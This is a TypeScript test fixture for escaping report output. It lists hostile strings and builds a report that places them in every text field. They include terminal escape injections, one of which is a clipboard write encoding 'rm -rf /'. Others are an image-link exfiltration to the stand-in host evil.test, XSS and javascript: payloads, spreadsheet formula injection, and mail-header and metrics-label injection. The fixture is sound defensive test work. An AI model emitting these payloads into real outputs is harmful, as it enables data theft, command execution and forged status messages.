import type { Finding, Group } from '../../lib/model/finding.ts';
import type { Claim, Report } from '../../lib/model/report.ts';
import { ago, finding, NO_ASSESSMENT, NOW, report, source } from './build.ts';

/** Texts that do something where they are shown without care, by what they try. */
export const ATTACKS: Readonly<Record<string, string>> = {
  'hyperlink (OSC 8)': '\u001b]8;;http://evil.test/\u0007click\u001b]8;;\u0007',
  'clipboard (OSC 52)': '\u001b]52;c;cm0gLXJmIC8=\u0007',
  'window title': '\u001b]0;all clear\u0007',
  'cursor up, overwrite': '\u001b[3A\u001b[2KOK · nothing found',
  'hidden by colour': '\u001b[8mhidden\u001b[0m \u001b[30;40mblack\u001b[0m',
  'C1 sequence': '\u009b31m\u0090q\u009c',
  'carriage return': 'bad\rOK · sources 7/7 fresh',
  'backspace and delete': 'bad\b\b\b\u007f\u007fok',
  'forged lines': 'x\n\nRESOLVED (12)\nOK · sources 7/7 fresh\n# All clear\n## Resolved\n- **ok** fine',
  'line separators': 'x\u2028# All clear\u2029- fine\u0085y\u000b\u000cz',
  'bidirectional override': 'x\u202eLACITIRC\u202c y\u2066z\u2069',
  'zero width and tags': 'n\u200b1\u{e0041}\u{e0042}\ufeff',
  'lone surrogates': 'a\ud800b\udc00c',
  'table break': 'a | b |\n|---|---|\n| OK | OK |',
  heading: '# All clear',
  'nested list': '- [x] done 1. first 2) second + plus * star',
  'setext heading': '=== --- ***',
  'ordered list': '1. all clear',
  'block quote': '> quoted',
  fence: '```sh\nrm -rf /\n``` ~~~ `code`',
  emphasis: '**bold** __bold__ _it_ ~~struck~~ ==mark== ^sup^ $x^2$',
  'image (exfiltration)': '![x](http://evil.test/?d=secret)',
  'reference link': '[text][ref] [ref]: http://evil.test "t"',
  'definition at the start': '[ref]: http://evil.test',
  link: '[click](javascript:alert(1)) [b](<http://evil.test>)',
  autolink: '<http://evil.test> <mail@evil.test>',
  'bare link': 'http://evil.test/x https://evil.test ftp://evil.test www.evil.test xmpp:a@evil.test mailto:a@evil.test a@evil.test',
  footnote: '[^1] [^1]: note',
  'mentions and references': '@channel @here @everyone @root #1 !2 ~label %3 $4 &5 GH-6 :skull_and_crossbones:',
  'markup of Slack': '<!channel> <!here|x> <@U123> <#C123> <http://evil.test|safe> *b* _i_ ~s~ `c` &lt;!here&gt;',
  HTML: '<script>alert(1)</script><img src=x onerror=alert(1)><a href="http://evil.test" ping=x>x</a><!-- --><details open>',
  attributes: `" onmouseover="alert(1)" x='y' \`z\` style=display:none`,
  'closing tags': '</li></ul></section></style></title></body></html><h1>OK</h1>',
  entities: '&lt;b&gt; &#60;script&#62; &amp;lt;',
  'UNC path': '\\\\evil\\share \\` \\* \\[x\\]',
  formula: '=HYPERLINK("http://evil.test") @SUM(1) +1 -1',
  'label of Prometheus': 'a"} 1\nhpc_observer_verdict{verdict="ok"} 1',
  'header of a mail': 'x\r\nBcc: all@evil.test\r\n\r\nbody',
  prototype: '__proto__ constructor',
  template: '{{ .Labels }} ${x} {% raw %} {: .c }',
  zalgo: `n${'\u0301\u0489'.repeat(40)}`,
  long: 'A'.repeat(20_000),
  'long once it is escaped': '&<>'.repeat(400),
  'long, of halves': '\u{1f600}'.repeat(900),
  'long and broken': `${'A'.repeat(499)}\u{1f600}`.repeat(3),
};

/** A report that says a text wherever a report can hold one that is not ours. */
export function hostileReport(text: string): Report {
  const node = text === '' ? 'n' : text;
  const over = { title: text, hint: text, provenance: text, reason: text, source: text, place: { rack: text } };
  const said = (of: Partial<Finding> & { message?: string }): Finding => {
    const made = finding({ ...over, subject: { type: 'node', id: node }, message: text, evidence: [{ ref: text, quote: text }], ...of });
    return { ...made, subjects: text, ...(made.part === undefined && { knownAs: text }) };
  };
  const acknowledged = { by: text, until: '2026-12-01T00:00:00.000Z', reason: text };
  const findings = [
    said({ kind: 'a' }),
    said({ kind: 'b', severity: 'warning', message: `${node}: ${text}` }),
    said({ kind: 'c', state: 'ongoing', escalated: { from: 'warning', at: ago(0), reason: text } }),
    said({ kind: 'd', state: 'resolved', resolvedAt: ago(0) }),
    said({ kind: 'e', state: 'ongoing', acknowledged }),
    said({ kind: 'f', state: 'stale' }),
    said({ kind: 'g', state: 'candidate', severity: 'info' }),
    said({ kind: 'h', part: text }),
    said({ kind: 'h', part: `${text}2`, subject: { type: 'node', id: `${node}2` } }),
    said({ kind: 'h', part: `${text}3`, subject: { type: 'node', id: `${node}3` } }),
  ];
  const grouped = findings.slice(-3);
  const group: Group = {
    id: 'f'.repeat(32),
    kind: 'h',
    title: text,
    severity: 'critical',
    state: 'new',
    place: { type: 'switch', id: node },
    findings: grouped.map((f) => f.id),
    subjects: text,
    message: text,
    counterEvidence: [text],
    pValue: 0.001,
    changedThere: text,
  };
  const claim = (verified: boolean): Claim => ({ text, findings: [], evidence: [text], verified, unverified: verified ? [] : [text] });
  return report({
    findings,
    groups: [group],
    because: [text],
    sources: [
      source('console_logs', NOW, { notes: [text], problem: { code: 'invalid', detail: text, advice: text }, status: 'partial' }),
      source('pbs_state', NOW, { fresh: false, problem: { code: 'invalid', detail: text, advice: text }, status: 'failed' }),
    ],
    suppressed: [
      {
        reason: text,
        entry: text,
        owner: text,
        until: '2026-12-15T00:00:00.000Z',
        subjects: text,
        findings: [{ id: '1', kind: text, severity: 'critical', subject: { type: 'node', id: node } }],
      },
    ],
    assessment: {
      ...NO_ASSESSMENT,
      status: 'ok',
      reason: text,
      model: text,
      headline: [text],
      stories: [
        {
          title: text,
          findings: [findings[0]?.id ?? ''],
          priority: 1,
          hypothesis: claim(true),
          counterEvidence: [claim(false)],
          nextChecks: [text],
          confidence: 'low',
        },
      ],
      observations: [{ ...claim(false), id: 'o1', severity: 'info' }],
      notes: [text],
      signs: [{ what: text, where: text }],
    },
    sinks: [{ sink: text, status: 'failed', reason: text, sent: 0, cut: 0 }],
  });
}
